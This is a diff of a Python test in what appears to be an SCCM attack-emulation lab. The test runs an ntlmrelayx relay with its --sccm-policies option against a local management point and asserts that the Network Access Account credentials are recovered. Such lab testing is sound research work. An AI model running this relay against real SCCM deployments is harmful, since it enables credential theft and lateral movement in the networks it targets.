@@ -11,58 +11,29 @@ relayed connection's later requests as the relayed account; the lab must too.
 from __future__ import annotations
 
 import json
-import subprocess
-import time
 from datetime import UTC, datetime
 from pathlib import Path
 
 from cmglab.runtime.lab import Lab
-from cmglab.runtime.sockets import free_port_now
 from tests.support.lab import lab_client, lab_fixture
-from tests.support.relay import QUIET, ntlmrelayx, stop, victim_authenticates, wait_listening
+from tests.support.relay import relay
 
 mp = lab_fixture("management-point")
 
 
 def test_ntlmrelayx_sccm_policies_recovers_the_naa(mp: Lab, tmp_path: Path) -> None:
     computer = next(a for a in mp.config.active_directory.accounts if a.name.endswith("$"))
-    http_port = free_port_now()  # ntlmrelayx binds its listener itself
     target = f"http://127.0.0.1:{mp.config.ports.management_point_http}/ccm_system_windowsauth/request"
-    out = tmp_path / "ntlmrelayx.out"
     # other tests' devices use the same vdir in the session's lab: look only at what came after this start
     started = datetime.now(UTC).isoformat(timespec="milliseconds")
-    with out.open("wb") as sink:
-        proc = subprocess.Popen(
-            [
-                ntlmrelayx(),
-                "-t",
-                target,
-                "--sccm-policies",
-                "--sccm-policies-sleep",
-                "0",
-                "-ip",
-                "127.0.0.1",
-                "--http-port",
-                str(http_port),
-                *QUIET,
-            ],
-            cwd=tmp_path,
-            stdin=subprocess.PIPE,
-            stdout=sink,
-            stderr=subprocess.STDOUT,
-        )
-    try:
-        deadline = time.monotonic() + 60
-        wait_listening(http_port, proc, deadline)
-        victim_authenticates(http_port, f"CORP\\{computer.name}", computer.password)
-        while time.monotonic() < deadline and proc.poll() is None:
-            so_far = out.read_text(errors="replace")
-            if "DONE - attack finished" in so_far or "[-]" in so_far:  # finished, or the attack logged an error
-                break
-            time.sleep(0.2)
-    finally:
-        stop(proc)
-    log = out.read_text(errors="replace")
+    log = relay(
+        tmp_path,
+        target,
+        ["--sccm-policies", "--sccm-policies-sleep", "0"],
+        f"CORP\\{computer.name}",
+        computer.password,
+        timeout=60,
+    )
     assert "DONE - attack finished" in log, log
     naa = mp.config.site.network_access_account
     assert f"Retrieved NAA account credentials: '{naa.username}:{naa.password}'" in log, log
